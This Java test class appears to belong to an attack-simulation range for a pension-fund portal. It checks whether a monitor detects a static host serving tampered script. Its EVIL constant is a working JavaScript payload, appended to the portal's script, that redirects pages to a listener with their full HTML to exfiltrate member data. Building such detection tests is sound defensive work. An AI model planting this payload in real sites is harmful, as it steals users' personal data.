package be.mijnfonds.range.row;

import be.mijnfonds.demo.people.Member;
import be.mijnfonds.range.aim.Ours;
import be.mijnfonds.range.aim.Plain;
import be.mijnfonds.range.inject.Chromium;
import be.mijnfonds.range.inject.Listener;
import be.mijnfonds.range.inject.Payloads;
import be.mijnfonds.range.inject.Site;
import be.mijnfonds.range.inject.Tour;
import be.mijnfonds.range.row.Facts.Control;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.PlaywrightException;
import java.io.IOException;
import java.net.URI;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/** Row 7a: the host of the pages serves altered script to everybody. The one who can read: as long as nobody looks. */
final class AlteredScript implements Row {
    private static final int TIMES = 3;
    /** Between two looks of the monitor, as it is when nobody says otherwise. */
    private static final int EVERY_MS = 15_000;

    /** What is under way when a visit is over still arrives. */
    private static final int ARRIVING_MS = 1_000;

    private static final int OPENING_TRIES = 4;

    private static final int LOOK_MS = 50;

    /** A plain portal has a policy too, and none can forbid that a page leads somewhere else. */
    private static final String EVIL = """
            ;addEventListener('load', () => setTimeout(() => {
              location.href = '%s/?' + encodeURIComponent(document.documentElement.outerHTML);
            }, 100));
            """;

    @Override
    public Facts facts() {
        return new Facts(
                7,
                "The pages' host serves altered script to everybody (7a)",
                """
                It has the static host. At a moment that the monitor cannot know it puts another script in the place of the one \
                that all pages run; the script sends away what the page asks and what it shows, over a way that the \
                policy leaves open. Members sign in meanwhile with a real Chromium. Who works before or after, and whoever \
                does not, must not be read; who works in between is (L), until the outside monitor says so. It changes \
                nothing in anybody's name: what a script could change is a question for the pauses and notices.""",
                Facts.WHO_WORKED,
                0,
                Control.WHO_WORKED,
                false,
                Set.of());
    }

    @Override
    public Manner manner() {
        return Manner.WAITS;
    }

    @Override
    public Taken ours(Ours ours, Attack attack) throws Exception {
        var notes = new ArrayList<String>();
        var exposed = new LinkedHashSet<Member>();
        var waiting = new ArrayDeque<>(attack.working());
        var random = attack.random();
        try (var host = AlteredHost.inPlaceOf(ours, attack);
                var listener = new Listener(attack::keep);
                var chromium = new Chromium(listener, attack::keep)) {
            var visits = new Visits(ours, listener, chromium);
            visits.next(waiting);
            for (var time = 1; time <= TIMES && !waiting.isEmpty(); time++)
                try (var monitor = Monitor.of(ours)) {
                    monitor.awaitRight();
                    Thread.sleep(random.nextInt(EVERY_MS));
                    notes.add(once(ours, host, monitor, visits, waiting, exposed));
                    attack.say().accept(notes.getLast());
                }
            if (!waiting.isEmpty()) visits.next(waiting);
        }
        if (exposed.isEmpty()) throw new IOException("nobody worked while the script was altered");
        notes.add("Who works when the alarm comes is counted as read too: the script goes on in their page.");
        return Taken.exposing(exposed, notes);
    }

    /** Altered until the alarm; one after the other, members sign in and look at their data. */
    private static String once(
            Ours ours, AlteredHost host, Monitor monitor, Visits visits, Deque<Member> waiting, Set<Member> exposed)
            throws Exception {
        var began = System.currentTimeMillis();
        host.alter(true);
        var visited = 0;
        do {
            exposed.add(visits.next(waiting));
            visited++;
        } while (!monitor.alarmed() && !waiting.isEmpty());
        var alarm = monitor.alarm();
        host.alter(false);
        var said = monitor.said();
        if (!said.contains("other bytes than were signed"))
            throw new IOException("the monitor alarmed about something else: " + said);
        return String.format(
                Locale.ROOT,
                "Altered: the monitor, which looks every %d s, alarmed after %.1f s and named the script; leases in between: "
                        + "%d; members who worked from then until their visit was over: %d.",
                EVERY_MS / 1_000,
                (alarm - began) / 1e3,
                ours.leases(began, alarm),
                visited);
    }

    /** Members one after the other, each in a browser of their own. */
    private record Visits(Ours ours, Site site, String address, Payloads payloads, Chromium chromium) {
        Visits(Ours ours, Listener listener, Chromium chromium) throws IOException {
            this(
                    ours,
                    new Site(ours.fund().layout().site()),
                    ours.keys().pages(),
                    Payloads.with(listener.address()),
                    chromium);
        }

        Member next(Deque<Member> waiting) throws IOException {
            var member = waiting.pop();
            var language = Tour.language(member);
            var page = chromium.newProfile();
            var tour = new Tour(site, address, payloads, page, language);
            tour.signIn(member.person().nationalNumber());
            if (!tour.open(site.page(language, "my-data"))) throw new IOException("a member saw no data");
            page.waitForTimeout(ARRIVING_MS);
            return member;
        }
    }

    @Override
    public Taken plain(Plain plain, Attack attack) throws Exception {
        var script = plain.twin().staticFolder().resolve("twin.js");
        var honest = Files.readString(script);
        try (var listener = new Listener(attack::keep);
                var chromium = new Chromium(listener, attack::keep)) {
            Files.writeString(script, honest + EVIL.formatted(listener.address()));
            var opened = 0;
            for (var member : attack.working()) {
                opened += visited(plain, member, listener, chromium);
                attack.say().accept(opened + " pages opened");
            }
            var sent = 0;
            for (var address : listener.reached())
                attack.keep("sent/" + sent++, URLDecoder.decode(address, StandardCharsets.UTF_8));
            return Taken.read(List.of(opened + " pages opened; nobody looks at what a plain portal serves."));
        } finally {
            Files.writeString(script, honest);
        }
    }

    private static int visited(Plain plain, Member member, Listener listener, Chromium chromium)
            throws IOException, InterruptedException {
        var visit = plain.signIn(member);
        var page = chromium.newProfile();
        chromium.cookie("TWINSESSION", visit.session(), plain.address().toString());
        var pages = Plain.pages(member);
        for (var path : pages) {
            var before = listener.reached().size();
            open(page, URI.create(plain.address() + path).toString());
            for (var waited = 0; waited < ARRIVING_MS && listener.reached().size() == before; waited += LOOK_MS)
                page.waitForTimeout(LOOK_MS);
        }
        return pages.size();
    }

    /** The script of the page before sends what it saw by going elsewhere, perhaps at this very moment. */
    private static void open(Page page, String address) {
        for (var tries = 1; ; tries++) {
            try {
                page.navigate(address);
                return;
            } catch (PlaywrightException e) {
                if (tries == OPENING_TRIES || !String.valueOf(e.getMessage()).contains("interrupted by another"))
                    throw e;
            }
        }
    }
}
